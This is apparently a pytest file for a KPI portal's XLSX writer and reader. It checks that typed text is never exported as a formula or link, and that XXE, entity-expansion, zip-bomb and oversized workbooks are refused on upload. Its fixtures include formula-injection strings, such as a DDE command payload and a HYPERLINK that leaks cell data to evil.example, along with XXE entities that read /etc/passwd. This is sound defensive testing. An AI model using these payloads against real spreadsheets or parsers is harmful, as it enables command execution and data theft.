"""Workbooks out: text stays text, figures stay figures. Workbooks in: no file costs more than it is worth."""

import datetime as dt
import io
import json
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from kpiportal import xlsx, xlsxparse
from kpiportal.tests import good_files, hostile_archives
from kpiportal.uploads import UploadRefused
from kpiportal.xlsx import Column, ReadSheet, Sheet, read_workbook, write_workbook

AT = dt.datetime(2015, 10, 19, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=7)))
DAY = dt.date(2015, 10, 19)
# What people could type to make a spreadsheet do something; every one must come back as it was typed.
DANGEROUS = [
    "=1+1", '=HYPERLINK("https://evil.example/?"&A1,"ดูผล")', "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/c calc'!A0",
    "\t=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "{=1+1}", "'=1+1", "=", "-", "+66 53 112",
    "http://evil.example/", "https://evil.example/", "ftp://evil.example/", "mailto:a@evil.example",
    "internal:'x'!A1", "external:c:\\x.xlsx", "file:///etc/passwd", "\\\\evil\\share", "www.evil.example",
    "<f>1+1</f>", "]]></t></is><f>1</f>", "&lt;&amp;", "_x003D_1+1", "_x000D_", "TRUE", "#REF!", "1E5", "0012",
    "๘๒.๓๕", "82.35", "20/11/2569", "\u202e=1+1", "\u200b=1+1", "\ufeff=1+1", "ผู้ว่าราชการจังหวัด กำ น้ำ",
]  # fmt: skip


def sheet_xml(data, number=1):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(f"xl/worksheets/sheet{number}.xml").decode()


def everything(data):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info).decode() for info in package.infolist()}


def typed_texts():
    columns = [Column("ที่พิมพ์", 40), Column("ในช่องตัวเลข", kind="number"), Column("ในช่องวันที่", kind="date")]
    return write_workbook([Sheet("ข้อความ", columns, [(text, text, text) for text in DANGEROUS])], at=AT)


def test_no_typed_text_becomes_a_formula_or_a_link():
    parts = everything(typed_texts())
    cells = re.findall(r"<c [^>]*>", parts["xl/worksheets/sheet1.xml"])
    assert len(cells) == 3 + 3 * len(DANGEROUS)
    assert all(re.search(r' t="inlineStr"', cell) for cell in cells)
    for name, text in parts.items():
        assert not re.search(r"<f[ >/]|hyperlink|externalLink|ddeLink|oleLink|definedName name=\"(?!_xlnm\.)", text), (
            name
        )
    assert not [name for name in parts if re.search(r"calcChain|externalLink|sheet\d+\.xml\.rels", name)]


def test_every_typed_text_is_read_back_as_it_was_typed():
    (sheet,) = read_workbook(io.BytesIO(typed_texts()))
    assert sheet.title == "ข้อความ"
    assert sheet.rows[0] == ["ที่พิมพ์", "ในช่องตัวเลข", "ในช่องวันที่"]
    assert sheet.rows[1:] == [[text, text, text] for text in DANGEROUS]


def test_what_xml_cannot_carry_is_taken_out():
    rows = [["ก\x00ข\x0bค\x1f\ufffe\ud800ง"], ["บรรทัด\r\nใหม่\rอีก"], ["ยาว" * 20_000], ["=1\x00+1"]]
    (sheet,) = read_workbook(io.BytesIO(write_workbook([Sheet("ก", [Column("ก")], rows)], at=AT)))
    assert [row[0] for row in sheet.rows[1:3]] == ["กขคง", "บรรทัด\nใหม่\nอีก"]
    assert len(sheet.rows[3][0]) == 32_000
    assert sheet.rows[3][0].endswith("ยาวย …(ข้อความยาวเกินไป ตัดไว้เท่านี้)")
    assert sheet.rows[4] == ["=1+1"]


def test_figures_are_figures_with_their_formats():
    columns = [
        Column("น้ำหนัก", kind="number"), Column("คะแนน", kind="number", decimals=4),
        Column("คน", kind="number", decimals=0), Column("ตามจริง", kind="number", decimals=None),
        Column("ร้อยละ", kind="percent"), Column("วันที่", kind="date"),
    ]  # fmt: skip
    rows = [
        (Decimal("12.50"), Decimal("3.8089"), 1_250_000, Decimal("0.000000001"), Decimal("82.35"), DAY),
        (Decimal("-0.1"), Decimal(2) / 3, -3, Decimal("999999999999999"), Decimal(0), dt.date(1959, 2, 28)),
        (None, None, None, None, None, None),
    ]
    data = write_workbook([Sheet("ก", columns, rows)], at=AT)
    (sheet,) = read_workbook(io.BytesIO(data))
    assert sheet.rows[1] == [
        Decimal("12.5"), Decimal("3.8089"), Decimal(1250000), Decimal("1E-9"), Decimal("0.8235"), DAY,
    ]  # fmt: skip
    assert sheet.rows[2] == [
        Decimal("-0.1"), Decimal("0.666666666666667"), Decimal(-3), Decimal("999999999999999"), Decimal(0),
        dt.date(1959, 2, 28),
    ]  # fmt: skip
    assert len(sheet.rows) == 3  # a row of nothing has its frame and no value
    assert '<c r="B2" s="3"><v>3.8089</v></c>' in sheet_xml(data)
    styles = everything(data)["xl/styles.xml"]
    formats = re.findall(r'formatCode="([^"]*)"', styles)
    assert formats == ["#,##0.00", "#,##0.0000", "#,##0", "0.00%", "[$-107041E]d mmm yyyy;@"]


def test_a_figure_longer_than_a_sheet_can_hold_is_written_as_its_digits():
    rows = [[Decimal("1234567890123456789")], [10**15], [Decimal("0.1234567890123456789")]]
    (sheet,) = read_workbook(io.BytesIO(write_workbook([Sheet("ก", [Column("ก", kind="number")], rows)], at=AT)))
    assert [row[0] for row in sheet.rows[1:]] == [
        "1234567890123456789",
        "1000000000000000",
        Decimal("0.123456789012346"),
    ]


@pytest.mark.parametrize("cell", [1.5, True, float("nan"), ["x"], object()])
def test_only_exact_values_are_written(cell):
    with pytest.raises(TypeError, match="not a cell"):
        write_workbook([Sheet("ก", [Column("ก", kind="number")], [[cell]])], at=AT)


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity"), Decimal("-Infinity")])
def test_what_is_not_a_number_is_not_written(value):
    with pytest.raises(ValueError, match="not a number"):
        write_workbook([Sheet("ก", [Column("ก", kind="number")], [[value]])], at=AT)


def test_a_moment_is_written_as_its_day_in_bangkok():
    late = dt.datetime(2015, 10, 18, 17, 30, tzinfo=dt.UTC)
    (sheet,) = read_workbook(io.BytesIO(write_workbook([Sheet("ก", [Column("ก", kind="date")], [[late]])], at=AT)))
    assert sheet.rows[1] == [DAY]


def test_the_page_is_ready_to_print():
    parts = everything(write_workbook([Sheet("ผล & คะแนน", [Column("ก", 20)], [["ข"]])], at=AT))
    page = parts["xl/worksheets/sheet1.xml"]
    assert 'orientation="landscape"' in page
    assert 'paperSize="9"' in page
    assert 'fitToHeight="0"' in page
    assert 'ySplit="1"' in page
    assert 'state="frozen"' in page
    assert '<oddHeader>&amp;L&amp;"TH Sarabun New,Regular"&amp;14 ผล &amp;&amp; คะแนน</oddHeader>' in page
    assert "หน้า &amp;P จาก &amp;N" in page
    assert '<definedName name="_xlnm.Print_Titles" localSheetId="0">' in parts["xl/workbook.xml"]
    fonts = re.search("<fonts.*</fonts>", parts["xl/styles.xml"])[0]
    assert set(re.findall(r'<name val="([^"]*)"', fonts)) == {"TH Sarabun New"}
    assert "scheme" not in fonts


def test_sheet_names_keep_to_the_rules_of_the_format():
    titles = ["ผล/2558*[1]:?\\", "ผล 2558", "ผล 2558", "History", "ก" * 40, "ก" * 40, "", "'x'", "a\x00b"]
    data = write_workbook([Sheet(title, [Column("ก")], []) for title in titles], at=AT)
    assert [sheet.title for sheet in read_workbook(io.BytesIO(data))] == [
        "ผล 2558  1", "ผล 2558", "ผล 2558 (2)", "history_", "ก" * 31, "ก" * 27 + " (2)", "แผ่นงาน", "x", "a b",
    ]  # fmt: skip


def test_the_same_input_gives_the_same_bytes():
    sheets = [Sheet("ก", [Column("ก")], [["=1"]])]
    assert write_workbook(sheets, at=AT) == write_workbook(sheets, at=AT)
    assert "2015-10-19T02:00:00Z" in everything(write_workbook(sheets, at=AT))["docProps/core.xml"]
    with pytest.raises(ValueError, match="needs a sheet"):
        write_workbook([], at=AT)


def test_rows_come_one_by_one():
    """A generator is enough, and is not gathered first."""
    seen = []

    def rows():
        for number in range(3):
            seen.append(number)
            yield [number]

    (sheet,) = read_workbook(io.BytesIO(write_workbook([Sheet("ก", [Column("ก", kind="number")], rows())], at=AT)))
    assert seen == [0, 1, 2]
    assert [row[0] for row in sheet.rows[1:]] == [0, 1, 2]


# --- reading ---------------------------------------------------------------------------------------


def workbook(sheet, shared="", sheets=1):
    """A whole XLSX around the XML of one sheet, as small as programs accept."""
    names = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    kinds = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    numbers = range(1, sheets + 1)
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r{n - 1}"/>' for n in numbers)
    links = [("worksheet", f"worksheets/sheet{n}.xml", "Internal") for n in numbers]
    parts = {f"xl/worksheets/sheet{n}.xml": f"<worksheet {names}>{sheet}</worksheet>".encode() for n in numbers}
    if shared:
        parts["xl/sharedStrings.xml"] = f"<sst {names}>{shared}</sst>".encode()
        links.append(("sharedStrings", "sharedStrings.xml", "Internal"))
    parts["xl/_rels/workbook.xml.rels"] = good_files.relationships(*links)
    data = good_files.office("xlsx", parts)
    book = f"<workbook {names} {kinds}><sheets>{listed}</sheets></workbook>".encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, book if info.filename == "xl/workbook.xml" else old.read(info))
    return out.getvalue()


def test_cells_keep_their_place_and_kind():
    data = workbook(
        '<sheetData><row r="3"><c r="B3" t="s"><v>0</v></c><c r="C3"><v>82.350000000000009</v></c>'
        '<c r="D3" t="b"><v>1</v></c><c r="E3"><f>1+1</f><v>2</v></c></row></sheetData>',
        shared="<si><t>ตัวชี้วัด</t></si>",
    )
    assert read_workbook(io.BytesIO(data)) == [
        ReadSheet(
            "s1",
            [[None] * 5, [None] * 5, [None, "ตัวชี้วัด", Decimal("82.35000000000001"), True, Decimal(2)]],
            formulas=["E3"],
        )
    ]


def test_merged_cells_are_named_as_people_see_them():
    data = workbook(
        '<sheetData><row r="2"><c r="A2"><v>1</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A2:AB3"/></mergeCells>'
    )
    (sheet,) = read_workbook(io.BytesIO(data))
    assert sheet.merged == ["A2:AB3"]
    assert sheet.formulas == []


def test_a_form_opens_its_rows_and_locks_its_headings():
    kinds = Column("ประเภท", choices="รายการ!B2:B12")
    form = Sheet("แบบ", [Column("รหัส", hidden=True), kinds], [("1", "ก")], form=True)
    keys = Sheet("กุญแจ", [Column("รหัส")], [], locked=True, hidden=True)
    data = write_workbook([form, keys], at=AT)
    xml = sheet_xml(data)
    assert "<sheetProtection " in xml
    assert "<formula1>&#x27;รายการ&#x27;!$B$2:$B$12</formula1>" in xml.replace("'", "&#x27;")
    assert 'sqref="B2:B1001"' in xml
    assert re.search(r'<col min="1" max="1" [^>]*hidden="1"', xml)
    parts = everything(data)
    assert 'state="hidden"' in parts["xl/workbook.xml"]
    assert parts["xl/styles.xml"].count('<protection locked="0"/>') == 1


def corner(reference):
    cells = f'<row r="1"><c r="A1"><v>1</v></c></row><row r="{re.sub("[A-Z]", "", reference)}">'
    return f'<sheetData>{cells}<c r="{reference}"><v>1</v></c></row></sheetData>'


def tricks():
    long = "<si><t>" + "ก" * 32_000 + "</t></si>"
    named = '<sheetData><row r="1">' + '<c t="s"><v>0</v></c>' * 16_000 + "</row></sheetData>"
    tall = "<sheetData>" + '<row><c t="s"><v>0</v></c></row>' * 19_000 + "</sheetData>"
    lists = '<c t="s"><v>0</v></c>' * 100
    return {
        "two far corners": (workbook(corner("XFD1048576")), "sheet_too_large"),
        "one row too far": (workbook(corner("A20001")), "sheet_too_large"),
        "one column too far": (workbook(corner("GS1")), "sheet_too_large"),
        "a long text named 16,000 times": (workbook(named, long), "sheet_too_large"),
        "a long text in 19,000 rows": (workbook(tall, long), "sheet_too_large"),
        "a long text on 900 sheets": (
            workbook(f"<sheetData><row>{lists}</row></sheetData>", long, 900),
            "sheet_too_large",
        ),
        "a dimension that lies": (workbook('<dimension ref="A1:XFD1048576"/><sheetData/>'), None),
        "not a workbook inside": (good_files.office("xlsx"), "office_damaged"),
        "broken sheet": (workbook('<sheetData><row r="1"><c r="A1"><v>1</row>'), "office_damaged"),
        "a number beyond all": (
            workbook('<sheetData><row r="1"><c r="A1"><v>1e999</v></c></row></sheetData>'),
            "office_damaged",
        ),
        "an entity from a file": (
            workbook("<sheetData/>", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><si><t>&x;</t></si>'),
            "office_content",
        ),
        "laughs": (workbook('<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><sheetData/>'), "office_content"),
        "a Word document": (good_files.office("docx"), "mismatch"),
        "nothing": (b"", "empty"),
        "text": ("ลำดับ,ชื่อ\n".encode(), "no_workbook"),
        "a PDF": (b"%PDF-1.7\n%%EOF", "no_workbook"),
        "the Excel of old": (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "office_old"),
    }


@pytest.mark.parametrize(("data", "code"), tricks().values(), ids=tricks())
def test_a_tricky_workbook_is_refused_in_words(data, code):
    if code is None:
        assert read_workbook(io.BytesIO(data)) == [ReadSheet("s1", [])]
        return
    with pytest.raises(UploadRefused) as refused:
        read_workbook(io.BytesIO(data))
    assert refused.value.code == code
    assert refused.value.sentence.endswith(" รับเฉพาะไฟล์ Excel (.xlsx) ขนาดไม่เกิน 25 MB")


def test_a_bomb_is_refused_by_its_directory_in_no_time():
    """100 MB in 100 kB and 400 MB in 400 kB, honest about it; and the same with forged sizes."""
    for label, name, data, code in hostile_archives.bombs():
        if not name.endswith(".xlsx"):
            continue
        started = time.process_time()
        with pytest.raises(UploadRefused) as refused:
            read_workbook(io.BytesIO(data))
        honest = label in {"100 MB in 100 kB", "400 MB in 400 kB"}
        assert refused.value.code == code
        assert time.process_time() - started < (0.3 if honest else 2), label


def parsed_apart(data, *limits):
    limits = limits or (20_000, 200, 8_000_000)
    return subprocess.run(
        [sys.executable, "-I", str(Path(xlsxparse.__file__)), *map(str, limits)],
        input=data,
        capture_output=True,
        check=False,
    )


def test_the_parser_alone_neither_fetches_nor_explodes():
    """Behind the door: what the parser itself does with entities, should one ever reach it."""
    secret = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><si><t>&x;</t></si>'
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    cells = '<sheetData><row><c t="s"><v>0</v></c></row></sheetData>'
    for shared in (secret, f"<!DOCTYPE a [{laughs}]><si><t>&a11;</t></si>"):
        ran = parsed_apart(workbook(cells, shared))
        assert Path("/etc/hostname").read_text().strip() not in ran.stdout.decode()
        assert len(ran.stdout) < 1000


def test_the_parser_gives_up_at_its_own_limits():
    data = write_workbook([Sheet("ก", [Column("ก"), Column("ข")], [["ค", "ง"]] * 50)], at=AT)
    assert parsed_apart(data).returncode == 0
    assert parsed_apart(data, 50, 200, 10_000).returncode == xlsxparse.TOO_LARGE
    assert parsed_apart(data, 51, 1, 10_000).returncode == xlsxparse.TOO_LARGE
    assert parsed_apart(data, 51, 2, 101).returncode == xlsxparse.TOO_LARGE
    assert parsed_apart(b"x").returncode == xlsxparse.UNREADABLE
    assert len(json.loads(parsed_apart(data, 51, 2, 104).stdout)[0][1]) == 51


def test_a_workbook_over_the_upload_limit_is_not_opened(settings):
    settings.KPI_UPLOAD_MAX_BYTES = 2000
    with pytest.raises(UploadRefused) as refused:
        read_workbook(io.BytesIO(b"\0" * 2001))
    assert refused.value.status == 413


def test_ten_thousand_rows_go_out_and_in():
    columns = [Column("ตัวชี้วัด", 40), *[Column("ระดับ", kind="number")] * 4, Column("วันที่", kind="date")]
    rows = [(f"ตัวชี้วัดที่ {n}", *[Decimal(n) / 100] * 4, DAY) for n in range(10_000)]
    started = time.process_time()
    data = write_workbook([Sheet("ก", columns, rows)], at=AT)
    written = time.process_time()
    (sheet,) = read_workbook(io.BytesIO(data))
    assert sheet.rows[10_000] == ["ตัวชี้วัดที่ 9999", *[Decimal("99.99")] * 4, DAY]
    assert len(sheet.rows) == 10_001
    assert written - started < 3
    assert len(data) < 2**20
    assert xlsx.READ_ROWS == 20_000
